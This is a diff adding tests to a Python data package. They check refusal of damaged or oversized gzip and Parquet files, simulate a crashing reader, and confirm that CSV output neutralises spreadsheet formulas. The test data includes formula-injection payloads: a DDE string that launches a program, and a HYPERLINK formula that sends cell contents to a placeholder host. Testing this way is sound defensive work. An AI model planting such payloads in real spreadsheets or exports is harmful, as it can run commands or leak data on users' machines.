@@ -1,6 +1,13 @@
 """Tables that are not what they should be: every error is one of this package, and says what to do."""
 
+import csv
 import gzip
+import re
+import sys
+import tracemalloc
+import zlib
+from datetime import datetime
+from decimal import Decimal
 
 import numpy as np
 import pandas as pd
@@ -8,8 +15,10 @@ import polars as pl
 import pytest
 
 import manyarms as ma
+from manyarms.cli.tables import marks, write_csv
 from manyarms.errors import ArmsError, ObservationError, ParameterError
 from manyarms.pool.pool import Pool
+from manyarms.pool.reading import read_csv, read_parquet
 
 
 def written(path, content):
@@ -155,6 +164,156 @@ def test_a_noise_that_is_no_number_is_not_called_a_value():
 def test_callbacks_that_are_none():
     with pytest.raises(ParameterError, match="callbacks must be functions"):
         ma.maximize(lambda row: 1.0, np.eye(3), budget=3, callbacks=3)
+
+
+# Files that are damaged, or hold more than is good
+
+
+def test_gzipped_files_that_are_damaged(tmp_path):
+    whole = gzip.compress(b"name,x\n" + b"".join(b"n%d,%d\n" % (i, i) for i in range(1000)))
+    flipped = bytearray(whole)
+    flipped[len(whole) // 2] ^= 0xFF
+    for content in (whole[:100], whole[:-4], whole[:3], whole[: len(whole) // 2], bytes(flipped)):
+        with pytest.raises(ArmsError, match=r"damaged, or a part of a gzipped file .*; copy"):
+            Pool.from_csv(written(tmp_path / "table.csv.gz", content))
+
+
+def test_a_gzipped_file_that_holds_too_much_is_refused_before_it_is_unpacked(tmp_path):
+    piece = zlib.compressobj(wbits=31)
+    zeros = bytes(1 << 20)
+    content = b"".join(piece.compress(zeros) for _ in range(1025)) + piece.flush()
+    path = written(tmp_path / "table.csv.gz", content)
+    tracemalloc.start()
+    with pytest.raises(ArmsError, match=r"more than 1,073,741,824 bytes, .* unpack it first"):
+        Pool.from_csv(path)
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert peak < 50e6
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (bytes.fromhex("28b52ffd0458"), "compressed with zstd; unpack it first"),
+        (zlib.compress(b"a,b\n1,2\n"), "compressed with zlib; unpack it first"),
+        (b"PAR1", "a Parquet file; give it a name that ends in .parquet"),
+    ],
+)
+def test_files_that_are_packed_otherwise(tmp_path, content, message):
+    with pytest.raises(ArmsError, match=message):
+        Pool.from_csv(written(tmp_path / "table.csv", content))
+
+
+@pytest.fixture(scope="module")
+def parquet(tmp_path_factory):
+    path = tmp_path_factory.mktemp("parquet") / "table.parquet"
+    pl.DataFrame({"x": range(300), "c": ["a", "b", "c"] * 100}).write_parquet(path)
+    return path.read_bytes()
+
+
+def test_parquet_files_that_are_no_such_files(tmp_path, parquet):
+    path = tmp_path / "table.parquet"
+    longer = parquet[:-8] + (2**31).to_bytes(4, "little") + b"PAR1"
+    for content in (b"", b"PAR1", b"PAR1" * 2, parquet[:-1], parquet[:100], b"x" + parquet, longer):
+        written(path, content)
+        for read in (Pool.from_parquet, lambda path: ma.BKB(str(path), ma.kernels.RBF(1.0))):
+            with pytest.raises(ArmsError, match="no Parquet file, or a part of one; write or copy"):
+                read(path)
+    with pytest.raises(ArmsError, match="it is encrypted"):
+        Pool.from_parquet(written(path, b"PARE" + bytes(20) + b"PARE"))
+
+
+def test_parquet_files_that_are_damaged_inside(tmp_path, parquet):
+    footer = len(parquet) - 8 - int.from_bytes(parquet[-8:-4], "little")
+    for start in (footer, footer + 20):
+        damaged = parquet[:start] + b"\xff" * 16 + parquet[start + 16 :]
+        with pytest.raises(ArmsError, match=r"cannot read .*table.parquet: "):
+            Pool.from_parquet(written(tmp_path / "table.parquet", damaged))
+
+
+def test_what_ends_the_reader_of_a_parquet_file_is_an_error_here(tmp_path, parquet, monkeypatch):
+    path = written(tmp_path / "table.parquet", parquet)
+    killed = tmp_path / "python"
+    killed.write_text("#!/bin/sh\nkill -ABRT $$\n")
+    killed.chmod(0o755)
+    monkeypatch.setattr(sys, "executable", str(killed))
+    with pytest.raises(ArmsError, match=r"its reader was ended \(code -6\), as damaged files do"):
+        Pool.from_parquet(path)
+    monkeypatch.setattr(sys, "executable", str(tmp_path / "nothing"))
+    with pytest.raises(ArmsError, match="no other process could be started"):
+        Pool.from_parquet(path)
+
+
+def test_types_of_parquet_columns_are_kept(tmp_path):
+    frame = pl.DataFrame(
+        {
+            "enum": pl.Series(["b", "a"], dtype=pl.Enum(["b", "a"])),
+            "category": pl.Series(["x", None], dtype=pl.Categorical),
+            "list": [[1, 2], []],
+            "bits": pl.Series([[0, 1], [1, 0]], dtype=pl.Array(pl.UInt8, 2)),
+            "small": pl.Series([1, 2], dtype=pl.Int8),
+            "decimal": [Decimal("1.5"), None],
+            "time": [datetime(2026, 1, 2), None],
+            "nothing": [None, None],
+        }
+    )
+    frame.write_parquet(tmp_path / "table.parquet")
+    found = read_parquet(tmp_path / "table.parquet")
+    assert found.schema == frame.schema
+    assert found.equals(frame)
+
+
+# Text that a spreadsheet would run
+
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-x",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "'=1",
+    "''-1",
+    "'quoted'",
+    "'",
+    "-5",
+    "+1e3",
+    "plain",
+    '=HYPERLINK("http://x.y/?" & A1, "a,b;c")',
+    "=\n=",
+]
+
+
+@pytest.mark.parametrize("decimal", [".", ","])
+def test_no_text_that_is_written_is_a_formula_and_all_is_read_back(tmp_path, decimal):
+    frame = pl.DataFrame(
+        {
+            "id": [f"{text}{i}" for i, text in enumerate(FORMULAS)],
+            "=name": FORMULAS,
+            "'@name": FORMULAS[::-1],
+            "number": [-1.5 * i for i in range(len(FORMULAS))],
+        }
+    )
+    path = tmp_path / "table.csv"
+    write_csv(frame, path, marks(decimal))
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        header, *rows = csv.reader(file, delimiter=";" if decimal == "," else ",")
+    assert header == ["id", "'=name", "''@name", "number"]
+    for cells in rows:
+        for cell in cells[:3]:
+            assert cell[0] not in "=+-@\t\r" or re.fullmatch(r"[+-][\d.e]+", cell)
+        assert re.fullmatch(r"-?\d+[.,]\d+", cells[3])
+    names = {"id", "=name", "'@name"}
+    assert read_csv(path, "id", names, names, decimal).equals(frame)
+    pool = Pool.from_csv(path, id="id", columns={"=name": "text"}, decimal=decimal)
+    assert pool.text["=name"].tolist() == FORMULAS
+    assert pool.columns["number"] == "continuous"
+
+
+def test_names_that_differ_by_the_apostrophe_only(tmp_path):
+    path = written(tmp_path / "table.csv", "=a,'=a\n1,2\n3,4\n")
+    with pytest.raises(ArmsError, match="must name its columns differently, also without"):
+        Pool.from_csv(path)
 
 
 def test_what_is_wrong_with_a_csv_file_is_found_in_the_file(tmp_path):
